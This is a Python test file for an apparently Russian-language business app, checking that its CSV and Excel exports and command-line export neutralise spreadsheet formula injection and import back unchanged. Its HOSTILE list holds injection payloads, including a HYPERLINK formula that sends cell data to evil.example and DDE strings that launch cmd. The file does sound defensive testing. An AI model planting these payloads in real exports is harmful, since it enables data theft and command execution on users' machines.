"""Formula injection (issue 15, item 4): no CSV or .xlsx the app or the command line writes
holds a live formula, whatever a person typed; numbers stay numbers; our own files import
back to the very text that was typed."""
from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook
from sqlalchemy import select
from sqlalchemy.orm import Session

from db.io.__main__ import main as cli
from db.io.export import csv_bytes, xlsx_bytes
from db.io.formulas import inert, restore
from db.mailing.documents import Letter, letters_csv
from db.models import Client

from .conftest import DEFERRED_FILES, signed_in

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "'=1+1"]
PLAIN = ["Альфа Строй", "'Ромашка' ООО", "a=b", "", "'", "-"]


def test_inert_is_the_owasp_rule_and_restore_undoes_it_exactly():
    for text in HOSTILE:
        assert inert(text).startswith("'"), text
        assert restore(inert(text)) == text
    for text in ("Альфа Строй", "'Ромашка' ООО", "a=b", ""):
        assert inert(text) == text and restore(text) == text
    assert inert("-") == "'-" and restore("'-") == "-"
    assert restore(5) == 5 and restore(None) is None


def _csv_cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""),
                           delimiter=";" if data.decode("utf-8-sig").split("\r\n")[0].count(";") else ","))


def _check_csv(rows: list[list[str]], hostile=HOSTILE):
    cells = [c for row in rows for c in row]
    for text in hostile:
        assert "'" + text in cells, (text, cells)
    for cell in cells:
        assert cell[:1] not in ("=", "+", "@", "\t", "\r"), cell


def _check_xlsx(data: bytes, hostile=HOSTILE):
    sheet = load_workbook(io.BytesIO(data)).active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells), [c.value for c in cells if c.data_type == "f"]
    values = {c.value for c in cells}
    for text in hostile:
        assert "'" + text in values
    return cells


def test_list_writers_neutralise_text_and_keep_numbers():
    import pandas as pd

    frame = pd.DataFrame({"name": HOSTILE, "amount": [-1500.5, 2.0, -3.0, 4.0, 5.0, 6.0, -7.25]})
    labels = {"name": "Client", "amount": "Amount"}
    rows = _csv_cells(csv_bytes(frame, labels))
    _check_csv(rows)
    assert [r[1] for r in rows[1:3]] == ["-1500.5", "2"]  # a negative amount is a number, unquoted
    cells = _check_xlsx(xlsx_bytes(frame, labels, money=("amount",)))
    amounts = [c for c in cells if c.column == 2 and c.row > 1]
    assert amounts[0].value == -1500.5 and amounts[0].data_type == "n"


def test_mailing_letters_csv_is_inert():
    letters = [Letter(client=h, to_name=h, to_address="a@b.ru", subject=h, body=h, address=None) for h in HOSTILE]
    _check_csv(_csv_cells(letters_csv(letters)))


@pytest.fixture
def hostile_clients(seeded, engine):
    with Session(engine) as s:
        clients = s.scalars(select(Client).order_by(Client.id)).all()
        # (no leading tab or CR here: an import trims surrounding whitespace off every value)
        names = [h for h in HOSTILE if h[:1] not in ("\t", "\r")]
        for client, name in zip(clients, names, strict=False):
            client.name = name
            client.legal_name = name
            client.postal_address = name
        s.commit()
    return names[:len(clients)]


@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_the_command_lines_export_is_inert_and_imports_back_unchanged(hostile_clients, engine, tmp_path, capsys,
                                                                      suffix):
    path = tmp_path / f"clients.{suffix}"
    assert cli(["--lang", "en", "export", "--kind", "clients", "--file", str(path)]) == 0
    if suffix == "csv":
        _check_csv(_csv_cells(path.read_bytes()), hostile_clients)
    else:
        _check_xlsx(path.read_bytes(), hostile_clients)
    with Session(engine) as s:
        before = sorted((c.name, c.legal_name, c.postal_address) for c in s.scalars(select(Client)))
    capsys.readouterr()
    assert cli(["--lang", "en", "import", "--kind", "clients", "--file", str(path)]) == 0
    out = capsys.readouterr().out
    assert "created 0" in out and "updated 0" in out, out
    with Session(engine) as s:
        assert sorted((c.name, c.legal_name, c.postal_address) for c in s.scalars(select(Client))) == before


def test_the_pages_exports_are_inert(hostile_clients):
    for page, login, name in (("pages/clients.py", "director", "Clients"),
                              ("pages/handover.py", "director", "Clients")):
        at = signed_in(login, page)
        assert not at.exception
        files = {b.proto.id.rsplit("_", 1)[-1]: DEFERRED_FILES[b.proto.deferred_file_id]()
                 for b in at.get("download_button") if f"export_{name}_" in b.proto.id}
        assert set(files) == {"csv", "xlsx"}, page
        _check_csv(_csv_cells(files["csv"]), hostile_clients[:4])
        _check_xlsx(files["xlsx"], hostile_clients[:4])
